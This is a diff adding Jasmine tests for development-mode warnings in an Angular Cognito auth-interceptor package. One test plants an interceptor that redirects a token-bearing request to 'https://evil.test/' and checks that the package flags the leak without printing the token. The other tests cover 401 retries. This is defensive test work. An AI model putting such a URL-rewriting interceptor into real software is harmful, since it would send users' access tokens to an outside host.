@@ -85,6 +85,44 @@ describe('in development, the package warns', () => {
     expect(told()[0]).not.toContain('eyJ');
   });
 
+  it('that the token goes elsewhere, by an interceptor that changes URLs too late', async () => {
+    const { http, told } = setUpWatched({}, [
+      cognitoInterceptor,
+      (request, next) => next(request.clone({ url: 'https://evil.test/' })),
+    ]);
+    http.get(TASKS).subscribe();
+    await settle();
+    expect(told()).toEqual([
+      jasmine.stringContaining('GET https://evil.test/ CARRIES THE ACCESS TOKEN'),
+    ]);
+    expect(told()[0]).not.toContain('eyJ');
+  });
+
+  it('of no refusal that another token mends', async () => {
+    const { http, backend, source, told } = setUpWatched();
+    http.get(TASKS).subscribe();
+    await settle();
+    source.answer(tokensOf('ada', { issuedAt: Date.now() + 1_000 }));
+    backend.expectOne(TASKS).flush(null, { status: 401, statusText: 'Unauthorized' });
+    await settle();
+    backend.expectOne(TASKS).flush('done');
+    expect(told()).toEqual([]);
+  });
+
+  it('of two tokens that are refused in a row', async () => {
+    const { http, backend, source, told } = setUpWatched();
+    const claims = { sub: 'ada', client_id: 'ours', iss: 'https://pool' };
+    const exp = Math.floor(Date.now() / 1000) + 600;
+    source.answer({ accessToken: fakeJwt({ ...claims, exp }) });
+    http.get(TASKS).subscribe({ error: () => undefined });
+    await settle();
+    source.answer({ accessToken: fakeJwt({ ...claims, exp: exp + 1 }) });
+    backend.expectOne(TASKS).flush(null, { status: 401, statusText: 'Unauthorized' });
+    await settle();
+    backend.expectOne(TASKS).flush(null, { status: 401, statusText: 'Unauthorized' });
+    expect(told()).toEqual([jasmine.stringContaining('refused the access token')]);
+  });
+
   it('of nothing else', async () => {
     const { http, backend, told } = setUpWatched({
       session: 'optional',
